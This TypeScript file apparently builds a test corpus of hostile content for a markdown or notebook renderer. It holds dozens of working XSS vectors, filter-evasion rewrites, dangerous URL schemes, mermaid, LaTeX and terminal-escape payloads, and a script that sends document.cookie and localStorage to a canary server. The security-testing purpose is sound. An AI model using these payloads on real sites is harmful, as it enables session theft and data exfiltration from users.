/**
 * Hostile content, made: ways to run a script × ways to write them × places where content comes in.
 * Every payload tries the same: call `top.hit`, read the cookie and the storage of the page, and tell another server.
 */

/** What a payload runs. It works in the page itself and in a frame of it. */
const spell = (canary: string, id: string): string =>
  `try{top.hit('${id}')}catch(e){}try{fetch('${canary}/js/${id}?'+document.cookie+localStorage.canary)}catch(e){new Image().src='${canary}/js/${id}'}`;

/** Ways HTML runs a script or reaches another server, from the known collections: tags, handlers, schemes, mutation, clobbering. */
const VECTORS: readonly ((js: string, url: string) => string)[] = [
  (js) => `<script>${js}</script>`,
  (js) => `<script>/*</script><script>*/${js}</script>`,
  (_, url) => `<script src="${url}"></script>`,
  (js) => `<img src=x onerror="${js}">`,
  (js) => `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="${js}" onerror="${js}">`,
  (js) => `<svg onload="${js}"></svg>`,
  (js) => `<svg><script>${js}</script></svg>`,
  (js) => `<svg><animate onbegin="${js}" attributeName=x dur=1s></svg>`,
  (js) => `<svg><set attributeName="onmouseover" to="${js}"/><a xlink:href="javascript:${js}"><text>x</text></a></svg>`,
  (js) =>
    `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${encodeURIComponent(js)}</script></svg>#x"/></svg>`,
  (js) => `<svg><foreignObject><body onload="${js}"></body></foreignObject></svg>`,
  (js) => `<iframe srcdoc="<script>${js.replaceAll('"', '&quot;')}</script>"></iframe>`,
  (js) => `<iframe src="javascript:${js}"></iframe>`,
  (_, url) => `<iframe src="${url}"></iframe>`,
  (js) => `<a href="javascript:${js}" class="go">link</a>`,
  (js) => `<a href="&#106;&#97;va&#x73;cript&colon;${js}" class="go">link</a>`,
  (js) => `<a href="java\nscript:${js}" class="go">link</a>`,
  (js) => `<a href="data:text/html,<script>${encodeURIComponent(js)}</script>" class="go">link</a>`,
  (js) => `<math><maction actiontype="statusline" xlink:href="javascript:${js}">x</maction></math>`,
  (js) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${js.replaceAll("'", '&#39;')}&gt;">`,
  (js) => `<math><annotation-xml encoding="text/html"><img src=x onerror="${js}"></annotation-xml></math>`,
  (js) => `<noscript><p title="</noscript><img src=x onerror=&quot;${js}&quot;>"></noscript>`,
  (js) => `<svg></p><style><a id="</style><img src=1 onerror=&quot;${js}&quot;>">`,
  (js) =>
    `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=&quot;${js}&quot; src>">`,
  (js) => `<details open ontoggle="${js}"><summary>s</summary></details>`,
  (js) => `<input autofocus onfocus="${js}">`,
  (js) => `<select autofocus onfocus="${js}"></select><textarea autofocus onfocus="${js}"></textarea>`,
  (js) => `<body onload="${js}" onpageshow="${js}" onhashchange="${js}">`,
  (js) => `<video autoplay onloadstart="${js}"><source onerror="${js}" src=x></video>`,
  (js) => `<audio src=x onerror="${js}"></audio>`,
  (js) => `<object data="data:text/html,<script>${encodeURIComponent(js)}</script>"></object>`,
  (_, url) => `<object data="${url}"></object><embed src="${url}">`,
  (js) => `<form action="javascript:${js}"><input type=submit autofocus></form>`,
  (_, url) => `<form action="${url}" id=f></form><button form=f>send</button>`,
  (_, url) => `<base href="${url}/"><img src="relative.png">`,
  (_, url) =>
    `<link rel="stylesheet" href="${url}"><link rel="prefetch" href="${url}"><link rel="preconnect" href="${url}">`,
  (js, url) =>
    `<meta http-equiv="refresh" content="0;url=javascript:${js}"><meta http-equiv="refresh" content="0;url=${url}">`,
  (_, url) => `<style>@import url(${url});*{background:url(${url})}</style>`,
  (_, url) => `<div style="background:url(${url});position:fixed;inset:0;z-index:99999">over everything</div>`,
  (_, url) => `<img src="${url}"><img srcset="${url} 2x"><picture><source srcset="${url}"></picture>`,
  (_, url) =>
    `<video src="${url}" poster="${url}"></video><input type=image src="${url}"><table background="${url}"></table>`,
  (js) => `<marquee onstart="${js}">m</marquee>`,
  (js) =>
    `<div onpointerenter="${js}" onanimationstart="${js}" style="animation:x 1s">d</div><style>@keyframes x{}</style>`,
  (js) => `<x contenteditable tabindex=1 autofocus onfocus="${js}">x</x>`,
  (js) => `<template><img src=x onerror="${js}"></template><dialog open onclose="${js}"></dialog>`,
  () =>
    '<form id="document"><input name="attributes"><input name="cookie"></form><img name="getElementById"><a id="app"></a>',
];

/** Ways to write the same so that a filter of its text misses it. */
const WRITTEN: readonly ((html: string) => string)[] = [
  (html) => html,
  (html) =>
    html.replace(/<([a-z]+)/gi, (_, tag: string) => `<${tag.toUpperCase()}`).replace(/ on([a-z]+)=/g, ' oN$1 \t='),
  (html) => html.replace(/<([a-z]+) /gi, '<$1/\f').replace(/>$/, ''),
];

const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  'java%73cript:',
  'javascript&colon;',
  'vbscript:',
  'data:text/html,',
  'file:///etc/passwd?',
  'blob:',
  '\u0001javascript:',
  'feed:javascript:',
  'view-source:javascript:',
  'jar:javascript:',
  'intent:',
] as const;

export type Payloads = {
  readonly count: number;
  /** Markdown documents by file name. */
  readonly documents: Readonly<Record<string, string>>;
  /** What a program displays: a MIME type and its text. */
  readonly displays: readonly (readonly [mime: string, text: string])[];
  /** What a program prints. */
  readonly printed: readonly string[];
};

export function createPayloads(canary: string): Payloads {
  let count = 0;
  const next = (): { readonly js: string; readonly url: string; readonly id: string } => {
    const id = `p${count++}`;
    return { id, js: spell(canary, id), url: `${canary}/net/${id}` };
  };
  const html = WRITTEN.flatMap((write) =>
    VECTORS.map((vector) => () => {
      const { js, url } = next();
      return write(vector(js, url));
    }),
  );
  const once = VECTORS.map((vector) => (): string => {
    const { js, url } = next();
    return vector(js, url);
  });
  const flat = (text: string): string => text.replace(/\s+/g, ' ');

  const documents: Record<string, string> = {
    'block.md': html.map((make) => make()).join('\n\n'),
    'inline.md': once.map((make) => `Words ${flat(make())} words.`).join('\n\n'),
    'headings.md': once.map((make) => `## ${flat(make())}`).join('\n\n'),
    'table.md': `| a | b |\n|---|---|\n${once.map((make) => `| ${flat(make()).replaceAll('|', '\\|')} | x |`).join('\n')}`,
    'quotes.md': once.map((make) => `> [!NOTE]\n> ${flat(make())}\n\n- [ ] ${flat(make())}\n`).join('\n'),
    'title.md': `---\ntitle: '${flat(once[3]?.() ?? '').replaceAll("'", "''")}'\nabstract: "${'<img src=x onerror=top.hit(1)>'}"\n---\n\n# Later\n`,
    'links.md': SCHEMES.flatMap((scheme) => {
      const { js } = next();
      const target = `${scheme}${encodeURIComponent(js)}`;
      return [
        `[link](<${target}>)`,
        `![image](<${target}>)`,
        `<${scheme.trim()}${encodeURIComponent(js)}>`,
        `[ref${count}]: <${target}>\n\n[words][ref${count}]`,
        `[[${scheme}${count}|wiki]]`,
      ];
    }).join('\n\n'),
    'images.md': Array.from({ length: 12 }, () => {
      const { url } = next();
      return `![remote](${url}) ![remote](${url.replace('http:', '')}) ![up](../../../../etc/passwd) [words](${url} "title")`;
    }).join('\n\n'),
    'math.md': Array.from({ length: 6 }, () => {
      const { js, url } = next();
      return `$\\href{javascript:${js.replace(/[{}$]/g, '')}}{x}$\n\n$$\\htmlData{onclick=${js.replace(/[{}$,=]/g, '')}}{x}\\includegraphics{${url}}\\url{javascript:alert}$$\n\n$\\text{<img src=x onerror=top.hit('math')>}\\unicode{<script>}$`;
    }).join('\n\n'),
    'mermaid.md': Array.from({ length: 4 }, () => {
      const { js, url } = next();
      return `\`\`\`mermaid\n%%{init: {"securityLevel": "loose", "flowchart": {"htmlLabels": true}, "themeCSS": "* { background: url(${url}) }"}}%%\ngraph TD\n  A["<img src=x onerror=${js.replace(/["\n]/g, '')}>"] --> B\n  click A "javascript:top.hit('mermaid')"\n  click B call hit("mermaid")\n\`\`\``;
    }).join('\n\n'),
    'fences.md': once
      .slice(0, 12)
      .map((make) => `\`\`\`${flat(make()).replaceAll('`', '')}\ncode\n\`\`\`\n\n\`\`\`html\n${make()}\n\`\`\``)
      .join('\n\n'),
    'output.md': once
      .slice(0, 20)
      .map(
        (make, index) =>
          `\`\`\`python\n${index}\n\`\`\`\n\n\`\`\`output\n${make()}\n[click](javascript:top.hit('out')) ![figure](_assets/../../x.svg)\n[whole output](javascript:top.hit('out'))\n\u001b]8;;javascript:top.hit('osc8')\u001b\\link\u001b]8;;\u001b\\ \u001b]52;c;Y2FuYXJ5\u0007 \u001b]0;title\u0007\n\`\`\``,
      )
      .join('\n\n'),
  };
  for (const name of [
    '<img src=x onerror=top.hit(9)>',
    '"onmouseover="top.hit(9)',
    "'-top.hit(9)-'",
    '${top.hit(9)}',
    '&lt;svg onload=top.hit(9)&gt;',
    'javascript:top.hit(9)',
  ]) {
    documents[`names ${name.replaceAll('/', '')}.md`] = `# Named ${name}\n`;
    count++;
  }
  const displays = [
    ...once.map((make) => ['text/html', make()] as const),
    ...once
      .slice(3, 12)
      .map(
        (make) =>
          [
            'image/svg+xml',
            `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9">${make()}</svg>`,
          ] as const,
      ),
    ...once.map((make) => ['text/markdown', make()] as const),
    ...SCHEMES.map(
      (scheme) => ['text/markdown', `[link](<${scheme}${next().id}>) ![i](<${scheme}${next().id}>)`] as const,
    ),
    ...once.slice(0, 6).map((make) => ['text/latex', `$${make()}$`] as const),
    ...once
      .slice(0, 6)
      .map((make) => ['application/json', JSON.stringify({ [make()]: make(), __proto__: { polluted: 1 } })] as const),
  ];
  const printed = [
    ...once.slice(0, 15).map((make) => flat(make())),
    ...[
      '\u001b]52;c;Y2FuYXJ5\u0007',
      "\u001b]8;;javascript:top.hit('osc')\u001b\\click\u001b]8;;\u001b\\",
      '\u001b]0;owned\u0007',
      '\u001b[6n\u001b[c\u001bP$q\u001b\\',
      '\u001b[999999999C\u001b[999999999Bfar',
      '\u001b[38;2;1;2;url(x)m',
      '\u009b31mC1',
      '\u202Egpj.exe',
    ],
    '```',
    '````',
    '~~~',
    '```python\nprint("made by output")\n```',
    '````markdown\n```python\nprint("made by output")\n```\n````',
    '```output\n```python\nprint(1)\n```',
    '</output>',
    '```\n\n```python\nimport os\n```',
  ];
  count += 16;
  return { count, documents, displays, printed };
}
